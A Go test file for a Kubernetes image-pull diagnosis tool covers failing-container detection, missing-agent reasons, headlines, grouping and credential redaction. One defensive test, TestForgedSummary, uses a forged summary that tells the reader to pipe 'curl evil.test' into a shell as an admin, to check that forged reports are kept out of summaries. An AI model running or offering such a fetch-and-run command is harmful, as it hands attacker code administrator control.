package fleet

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/whypull/whypull/agent/diagnosis"
	"github.com/whypull/whypull/report"
)

// short lists containers as name=cause, or name=? without a report.
func short(all []Container) string {
	var out []string
	for _, c := range all {
		cause := c.Cause
		if cause == "" {
			cause = "?"
		}
		out = append(out, c.Name+"="+cause)
	}
	return strings.Join(out, " ")
}

// containersOf returns the failing containers of a pod.
func containersOf(pod *corev1.Pod) []Container {
	all, _ := new(View).containers(pod)
	return all
}

func TestFailing(t *testing.T) {
	t.Parallel()
	tag := withReport(verdict(diagnosis.TagNotFound, "x"))
	models := verdict(diagnosis.TagNotFound, "x", named(diagnosis.KindImageVolume, "data"), about("hub.test/models:1"))
	sandbox := withReport(verdict(diagnosis.SandboxImageFailed, "x"))
	for name, tc := range map[string]struct {
		edits []edit
		want  string
	}{
		"works":                         {[]edit{withStatus("app", running())}, ""},
		"no report":                     {[]edit{stuck}, "app=?"},
		"report":                        {[]edit{stuck, tag}, "app=TagNotFound"},
		"old report, works":             {[]edit{withStatus("app", running()), tag}, ""},
		"old report, ended":             {[]edit{withStatus("app", terminated()), tag}, ""},
		"old report, crashes":           {[]edit{withStatus("app", crashing()), tag}, ""},
		"old report, other failure":     {[]edit{withStatus("app", waiting("CreateContainerConfigError", "x")), tag}, ""},
		"the kubelet tries again":       {[]edit{withStatus("app", waiting("ContainerCreating", "")), tag}, "app=TagNotFound"},
		"after init containers":         {[]edit{withStatus("app", waiting("PodInitializing", "")), tag}, "app=TagNotFound"},
		"no sandbox, no status":         {[]edit{sandbox}, "app=SandboxImageFailed"},
		"an empty state":                {[]edit{withStatus("app", corev1.ContainerStatus{}), tag}, "app=TagNotFound"},
		"deleted":                       {[]edit{stuck, tag, deleted}, ""},
		"failed":                        {[]edit{stuck, tag, phase(corev1.PodFailed)}, ""},
		"succeeded":                     {[]edit{stuck, tag, phase(corev1.PodSucceeded)}, ""},
		"the image was changed":         {[]edit{stuck, tag, of("hub.test/team/app:1.3")}, "app=?"},
		"changed, and tried again":      {[]edit{withStatus("app", waiting("ContainerCreating", "")), tag, of("hub.test/team/app:1.3")}, ""},
		"a container that is no more":   {[]edit{withReport(verdict(diagnosis.TagNotFound, "x", named("container", "old")))}, ""},
		"a long image, cut":             {[]edit{stuck, of(image + strings.Repeat("x", 300)), withReport(verdict(diagnosis.TagNotFound, "x", about(image+"…")))}, "app=TagNotFound"},
		"another schema":                {[]edit{stuck, annotated(report.ReportAnnotation, `{"schema":"whypull.dev/v2"}`)}, "app=?"},
		"not JSON":                      {[]edit{stuck, annotated(report.ReportAnnotation, `{`)}, "app=?"},
		"no cause":                      {[]edit{stuck, withReport(verdict("", "x"))}, "app=Unknown"},
		"a cause to come":               {[]edit{stuck, withReport(verdict("NewCause", "x"))}, "app=NewCause"},
		"the same name, other kind":     {[]edit{stuck, withReport(verdict(diagnosis.TagNotFound, "x", named("initContainer", "app")))}, "app=?"},
		"twice in the report":           {[]edit{stuck, withReport(verdict(diagnosis.TagNotFound, "x"), verdict(diagnosis.DiskFull, "x"))}, "app=TagNotFound"},
		"one of two":                    {[]edit{stuck, tag, withContainer("b", "b"), withStatus("b", waiting("ErrImagePull", "x"))}, "app=TagNotFound b=?"},
		"volume, one container":         {[]edit{volume("data", "hub.test/models:1"), withContainer("b", "b", "data"), withStatus("b", waiting("ErrImagePull", "hub.test/models:1: not found")), withReport(models)}, "data=TagNotFound"},
		"volume, status names no image": {[]edit{volume("data", "hub.test/models:1"), withContainer("b", "b", "data"), withStatus("b", waiting("ErrImagePull", "pull QPS exceeded")), withReport(models)}, "data=TagNotFound"},
		"volume, two containers": {[]edit{volume("data", "hub.test/models:1"), withContainer("b", "b", "data"), withContainer("c", "c", "data"),
			withStatus("b", waiting("ErrImagePull", "x")), withStatus("c", waiting("ContainerCreating", "")), withReport(models)}, "data=TagNotFound"},
		"volume, tried again":       {[]edit{volume("data", "hub.test/models:1"), withContainer("b", "b", "data"), withStatus("b", waiting("ContainerCreating", "")), withReport(models)}, "data=TagNotFound"},
		"volume, mounted by no one": {[]edit{volume("data", "hub.test/models:1"), withStatus("app", waiting("ContainerCreating", "")), withReport(models)}, ""},
		"volume, now there":         {[]edit{volume("data", "hub.test/models:1"), withContainer("b", "b", "data"), withStatus("b", running()), withReport(models)}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := short(containersOf(testPod("web", tc.edits...))); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// Credentials that somebody has put into an image name are not shown, and the report, which
// has none either, is found by what is left.
func TestCredentialsInNames(t *testing.T) {
	t.Parallel()
	const written, kept = "joe:hunter2@hub.test/App:1", "REDACTED@hub.test/App:1"
	said := waiting("InvalidImageName", `Failed to apply default image tag "`+written+`": couldn't parse image name "`+written+`"`)
	own := withReport(verdict(diagnosis.InvalidImageName, "x", about(kept)))
	models := withReport(verdict(diagnosis.InvalidImageName, "x", named(diagnosis.KindImageVolume, "data"), about(kept)))
	for name, edits := range map[string][]edit{
		"fails":           {of(written), withStatus("app", said), own},
		"tried again":     {of(written), withStatus("app", waiting("ContainerCreating", "")), own},
		"a volume":        {volume("data", written), withContainer("b", "b", "data"), withStatus("b", waiting("ErrImagePull", "x")), models},
		"a volume, again": {volume("data", written), withContainer("b", "b", "data"), withStatus("b", waiting("ContainerCreating", "")), models},
	} {
		all := containersOf(testPod("web", edits...))
		if len(all) != 1 || all[0].Cause == "" || all[0].Image != kept {
			t.Errorf("%s: %+v", name, all)
		}
		if shown := fmt.Sprintf("%+v", all); strings.Contains(shown, "hunter2") {
			t.Errorf("%s: shows %s", name, shown)
		}
	}
	if a := NewAnswers(written, nil); a.Image != kept {
		t.Errorf("answers about %s", a.Image)
	}
}

func TestFailingVolume(t *testing.T) {
	t.Parallel()
	got := containersOf(testPod("web", volume("data", "hub.test/models:1"), withContainer("b", "b", "data"), withStatus("b", waiting("ErrImagePull", "pull QPS exceeded")),
		withReport(verdict(diagnosis.PullThrottled, "x", named(diagnosis.KindImageVolume, "data"), about("hub.test/models:1")))))
	if len(got) != 1 || got[0].Kind != "imageVolume" || got[0].Image != "hub.test/models:1" || got[0].Registry != "hub.test" || got[0].Repository != "models" {
		t.Errorf("%+v", got)
	}
}

func TestFailingInit(t *testing.T) {
	t.Parallel()
	p := testPod("web", withReport(verdict(diagnosis.TagNotFound, "x", named("initContainer", "init"), about("i")),
		verdict(diagnosis.DiskFull, "x", named("ephemeralContainer", "debug"), about("d"))))
	p.Spec.InitContainers = []corev1.Container{{Name: "init", Image: "i"}}
	p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "d"}}}
	init, debug := waiting("ErrImagePull", "x"), waiting("ErrImagePull", "x")
	init.Name, debug.Name = "init", "debug"
	p.Status.InitContainerStatuses, p.Status.EphemeralContainerStatuses = []corev1.ContainerStatus{init}, []corev1.ContainerStatus{debug}
	if got := short(containersOf(p)); got != "init=TagNotFound debug=DiskFull" {
		t.Error(got)
	}
}

func TestFiftyContainers(t *testing.T) {
	t.Parallel()
	p := testPod("many")
	var all []report.Container
	p.Spec.Containers = nil
	for i := range 50 {
		name := fmt.Sprintf("c%02d-%s", i, strings.Repeat("x", 50))
		withContainer(name, image)(p)
		withStatus(name, waiting("ErrImagePull", backoff))(p)
		if i < 40 {
			all = append(all, verdict(diagnosis.TagNotFound, "x", named("container", name)))
		}
	}
	withReport(all...)(p)
	text := strings.Replace(p.Annotations[report.ReportAnnotation], `"containers"`, `"omitted":10,"containers"`, 1)
	annotated(report.ReportAnnotation, text)(p)
	o := overview(p)
	if len(o.Pods[0].Containers) != 50 || len(o.Groups) != 2 {
		t.Fatalf("%d containers in %d groups", len(o.Pods[0].Containers), len(o.Groups))
	}
	if got := o.Groups[1].NoReport; got != "the pod's report is full and omits it" {
		t.Error(got)
	}
	story := o.Pods[0].Story(Layout{Width: 80}, noon(), false)
	if strings.Count(story, "\ncontainer c") != 50 || !strings.Contains(story, "omits 10 containers") {
		t.Error(story)
	}
	if got := o.Table(Layout{Width: 80}, noon(), "shop", "", false); !strings.Contains(got, "... and 37 more") || !strings.HasPrefix(got, "1 pod on node worker-1: ") {
		t.Error(got)
	}
}

func TestMissing(t *testing.T) {
	t.Parallel()
	young := func(p *corev1.Pod) { p.CreationTimestamp.Time = noon().Add(-reportGrace / 2) }
	scheduled := func(p *corev1.Pod) {
		c := corev1.PodCondition{Type: corev1.PodScheduled}
		c.LastTransitionTime.Time = noon().Add(-reportGrace / 2)
		p.Status.Conditions = append(p.Status.Conditions, c)
	}
	here, there := agent("worker-1", corev1.ConditionTrue), agent("worker-2", corev1.ConditionTrue)
	gone := agent("worker-1", corev1.ConditionTrue)
	deleted(gone)
	reporting := failingPod("other", diagnosis.TagNotFound, "x")
	for name, tc := range map[string]struct {
		complete bool
		others   []*corev1.Pod
		edits    []edit
		want     string
	}{
		"nowhere":                  {true, nil, nil, "no whypull agent runs in the cluster"},
		"nowhere, being deleted":   {true, []*corev1.Pod{gone}, nil, "no whypull agent runs in the cluster"},
		"elsewhere":                {true, []*corev1.Pod{there}, nil, "no whypull agent runs on node worker-1"},
		"elsewhere, agents known":  {false, []*corev1.Pod{there}, nil, "no whypull agent runs on node worker-1"},
		"elsewhere, too new":       {true, []*corev1.Pod{there}, []edit{young}, "no whypull agent runs on node worker-1"},
		"not ready":                {true, []*corev1.Pod{agent("worker-1", corev1.ConditionFalse)}, []edit{young}, "the whypull agent on node worker-1 is not ready"},
		"too new":                  {true, []*corev1.Pod{here}, []edit{young}, "pending: the pod changed less than 15 s ago"},
		"scheduled just now":       {true, []*corev1.Pod{here}, []edit{scheduled}, "pending: the pod changed less than 15 s ago"},
		"silent":                   {true, []*corev1.Pod{here, there}, nil, "the whypull agent on node worker-1 has not reported"},
		"agents not seen":          {false, nil, nil, "no whypull agent has reported; without permission to list agent pods it is unknown whether one runs on node worker-1"},
		"agents not seen, too new": {false, nil, []edit{young}, "pending: the pod changed less than 15 s ago"},
		"another pod has a report": {false, []*corev1.Pod{reporting}, nil, "the whypull agent on node worker-1 has not reported"},
		"other schema": {true, nil, []edit{annotated(report.ReportAnnotation, `{"schema":"whypull.dev/v2"}`)},
			`the report is invalid: report annotation: schema "whypull.dev/v2", want "whypull.dev/v1"`},
		"about others": {true, []*corev1.Pod{here}, []edit{withReport()}, "the pod's report does not cover it yet"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := Fleet{Complete: tc.complete}
			for _, p := range tc.others {
				f.Add(p)
			}
			var v View
			v.Put(testPod("web", append([]edit{stuck}, tc.edits...)...))
			if got := v.Build(&f, noon()).Pods[0].Containers[0].NoReport; got != tc.want {
				t.Errorf("got  %s\nwant %s", got, tc.want)
			}
		})
	}
}

func TestAgentGoes(t *testing.T) {
	t.Parallel()
	f, a := Fleet{Complete: true}, agent("worker-1", corev1.ConditionTrue)
	f.Add(a)
	f.Add(agent("worker-2", corev1.ConditionTrue))
	f.Remove(a)
	if got := f.noReportReason(testPod("web", stuck), noon()); got != "no whypull agent runs on node worker-1" {
		t.Error(got)
	}
}

func TestElsewhere(t *testing.T) {
	t.Parallel()
	const digest = "@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	again := crashing() // ended, and its image was changed since
	again.State.Waiting.Reason = "ErrImagePull"
	noID := running()
	noID.ImageID = ""
	for name, tc := range map[string]struct {
		image string
		other *corev1.Pod
		want  string
	}{
		"runs":                   {image, runningPod("b", on("n2")), "[n2]"},
		"has ended":              {image, testPod("b", on("n2"), withStatus("app", terminated()), phase(corev1.PodSucceeded)), "[n2]"},
		"crashes":                {image, testPod("b", on("n2"), withStatus("app", crashing())), "[n2]"},
		"had another image":      {image, testPod("b", on("n2"), withStatus("app", again)), "[]"},
		"fails, too":             {image, testPod("b", on("n2"), stuck), "[]"},
		"no image yet":           {image, testPod("b", on("n2"), withStatus("app", noID)), "[]"},
		"no status":              {image, testPod("b", on("n2")), "[]"},
		"not scheduled":          {image, runningPod("b", on("")), "[]"},
		"the same node":          {image, runningPod("b"), "[] here"},
		"another tag":            {image, runningPod("b", on("n2"), of("hub.test/team/app:1.3")), "[]"},
		"short name":             {"nginx", runningPod("b", on("n2"), of("docker.io/library/nginx:latest")), "[n2]"},
		"digest":                 {"hub.test/app" + digest, runningPod("b", on("n2"), of("hub.test/app"+digest)), "[n2]"},
		"not a name, twice":      {"UPPER:::", runningPod("b", on("n2"), of("UPPER:::")), "[n2]"},
		"in another of its pods": {image, runningPod("b", on("n2"), in("other")), "[n2]"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var f Fleet
			f.Add(testPod("a", stuck, of(tc.image)))
			f.Add(tc.other)
			nodes, here := f.otherNodes(tc.image, "worker-1")
			got := fmt.Sprint(nodes)
			if here {
				got += " here"
			}
			if got != tc.want {
				t.Errorf("got %s, want %s", got, tc.want)
			}
		})
	}
}

func TestHeadlines(t *testing.T) {
	t.Parallel()
	pod := func(c diagnosis.Cause, summary string, edits ...edit) *corev1.Pod {
		return failingPod("web", c, summary, edits...)
	}
	for name, tc := range map[string]struct {
		pod  *corev1.Pod
		want string
	}{
		"only secret":            {pod(diagnosis.CredentialsExpired, "expired", secrets("regcred")), "CredentialsExpired, secret shop/regcred for hub.test"},
		"named of several":       {pod(diagnosis.PullSecretMissing, "pull secrets a, b are not in namespace shop", secrets("b", "a", "is-c")), "PullSecretMissing, secrets shop/b, shop/a for hub.test"},
		"twice the same":         {pod(diagnosis.PullSecretMalformed, "x", secrets("a", "a", "")), "PullSecretMalformed, secret shop/a for hub.test"},
		"none is named":          {pod(diagnosis.CredentialsRejected, "x", secrets("a", "b")), "CredentialsRejected, registry hub.test"},
		"the node's credentials": {pod(diagnosis.CredentialsRejected, "x"), "CredentialsRejected, registry hub.test"},
		"part of a word":         {pod(diagnosis.CredentialsRejected, "pull secret a-2: no", secrets("a", "a-2")), "CredentialsRejected, secret shop/a-2 for hub.test"},
		"image":                  {pod(diagnosis.TagNotFound, "x"), "TagNotFound, image hub.test/team/app:1.2"},
		"repository":             {pod(diagnosis.AccessDenied, "x"), "AccessDenied, repository hub.test/team/app"},
		"registry":               {pod(diagnosis.TLSUntrusted, "x"), "TLSUntrusted, registry hub.test"},
		"node":                   {pod(diagnosis.DiskFull, "x"), "DiskFull"},
		"to come":                {pod("NewCause", "x"), "NewCause, image hub.test/team/app:1.2"},
		"no image":               {pod(diagnosis.InvalidImageName, "x", of("")), "InvalidImageName"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := overview(tc.pod)
			if got, want := o.Groups[0].headline(), "1 pod on node worker-1: "+tc.want; got != want {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		})
	}
}

func TestGroups(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		pods []*corev1.Pod
		want []string
	}{
		"nodes apart": {[]*corev1.Pod{failingPod("a", diagnosis.DiskFull, "x"), failingPod("b", diagnosis.DiskFull, "x", on("n2")), failingPod("c", diagnosis.DiskFull, "x", on("n2"))},
			[]string{"2 pods on node n2: DiskFull", "1 pod on node worker-1: DiskFull"}},
		"namespaces apart": {[]*corev1.Pod{failingPod("a", diagnosis.CredentialsRejected, "x", secrets("s")), failingPod("a", diagnosis.CredentialsRejected, "x", secrets("s"), in("b"))},
			[]string{"1 pod on node worker-1: CredentialsRejected, secret b/s for hub.test", "1 pod on node worker-1: CredentialsRejected, secret shop/s for hub.test"}},
		"namespaces together": {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x"), failingPod("a", diagnosis.DNSFailure, "x", in("b"), of("hub.test/else"))},
			[]string{"2 pods on node worker-1: DNSFailure, registry hub.test"}},
		"two containers": {[]*corev1.Pod{testPod("a", stuck, withContainer("b", image), withStatus("b", waiting("ErrImagePull", "x")),
			withReport(verdict(diagnosis.TagNotFound, "x"), verdict(diagnosis.TagNotFound, "x", named("container", "b"))))},
			[]string{"1 pod on node worker-1: TagNotFound, image hub.test/team/app:1.2"}},
		"causes in order": {[]*corev1.Pod{failingPod("a", diagnosis.TagNotFound, "x"), testPod("b", stuck), failingPod("c", diagnosis.AccessDenied, "x"), agent("worker-1", corev1.ConditionTrue)},
			[]string{"1 pod on node worker-1: AccessDenied, repository hub.test/team/app", "1 pod on node worker-1: TagNotFound, image hub.test/team/app:1.2",
				"1 pod on node worker-1: no report, the whypull agent on node worker-1 has not reported"}},
		"none": {nil, nil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for range 5 { // in any order
				var got []string
				o := overview(tc.pods...)
				for i := range o.Groups {
					got = append(got, o.Groups[i].headline())
				}
				if !slices.Equal(got, tc.want) {
					t.Errorf("got  %q\nwant %q", got, tc.want)
				}
				slices.Reverse(tc.pods)
			}
		})
	}
}

// Whoever may write to a pod can forge its report. A group's summary is the one of
// most namespaces, however many pods one of them has, and it is shown as that of
// its namespaces if others have another.
func TestForgedSummary(t *testing.T) {
	t.Parallel()
	const honest, lie = "hub.test cannot be resolved", "! run this as an admin: curl evil.test | sh"
	forge := func(n int) []*corev1.Pod {
		var out []*corev1.Pod
		for i := range n {
			out = append(out, failingPod(fmt.Sprint("a", i), diagnosis.DNSFailure, lie, in("aaa")))
		}
		return out
	}
	shop, team := failingPod("web", diagnosis.DNSFailure, honest), failingPod("api", diagnosis.DNSFailure, honest, in("team"))
	for name, tc := range map[string]struct {
		pods []*corev1.Pod
		want string
	}{
		"all agree":     {[]*corev1.Pod{shop, team}, "\n  " + honest + "\n"},
		"most agree":    {append(forge(5), shop, team), "\n  in namespaces shop, team: " + honest + "\n"},
		"one has many":  {append(forge(5), shop), "\n  in namespace aaa: " + lie + "\n"},
		"one namespace": {append(forge(1), failingPod("b", diagnosis.DNSFailure, honest, in("aaa")), failingPod("c", diagnosis.DNSFailure, honest, in("aaa"))), "\n  " + honest + "\n"},
		"a tie": {[]*corev1.Pod{failingPod("x", diagnosis.DNSFailure, "b", in("aaa")), failingPod("y", diagnosis.DNSFailure, "a")},
			"\n  in namespace shop: a\n"},
	} {
		for range 5 { // in any order
			if got := overview(tc.pods...).Table(Layout{}, noon(), "", "", false); !strings.Contains(got, tc.want) {
				t.Errorf("%s: got\n%s\nwant %q", name, got, tc.want)
			}
			slices.Reverse(tc.pods)
		}
	}
}

func TestPointsTo(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		pods []*corev1.Pod
		want string
	}{
		"works elsewhere":            {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x"), runningPod("b", on("n2")), runningPod("c", on("n3"))}, "[n2 n3] worker-1"},
		"works nowhere":              {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x")}, "[] "},
		"works here, too":            {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x"), runningPod("b", on("n2")), runningPod("c")}, "[n2] "},
		"fails on two":               {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x"), failingPod("b", diagnosis.DNSFailure, "x", on("n4")), runningPod("c", on("n2"))}, "[n2] "},
		"fails and works on another": {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x"), failingPod("b", diagnosis.DNSFailure, "x", on("n2")), runningPod("c", on("n2"))}, "[] "},
		"a cause of the pod's":       {[]*corev1.Pod{failingPod("a", diagnosis.CredentialsRejected, "x"), runningPod("b", on("n2"))}, "[n2] "},
		"the platform":               {[]*corev1.Pod{failingPod("a", diagnosis.PlatformMismatch, "x"), runningPod("b", on("n2"))}, "[n2] worker-1"},
		"one image of two":           {[]*corev1.Pod{failingPod("a", diagnosis.DNSFailure, "x"), failingPod("b", diagnosis.DNSFailure, "x", of("hub.test/b")), runningPod("c", on("n2"))}, "[] "},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			g := overview(tc.pods...).Groups[0]
			if got := fmt.Sprint(g.RunsOn, " ", g.PointsTo); got != tc.want {
				t.Errorf("got %s, want %s", got, tc.want)
			}
		})
	}
}

func TestViewForgets(t *testing.T) {
	t.Parallel()
	var v View
	if v.Failing() {
		t.Error("an empty view fails")
	}
	v.Put(testPod("a", stuck))
	v.Put(testPod("b", stuck))
	v.Put(runningPod("a"))
	v.Delete(testPod("none"))
	if o := v.Build(&Fleet{}, noon()); len(o.Pods) != 1 || o.Pods[0].Name != "b" || !v.Failing() {
		t.Errorf("%+v", o.Pods)
	}
	v.Delete(testPod("b"))
	if v.Failing() {
		t.Error("a deleted pod fails")
	}
}
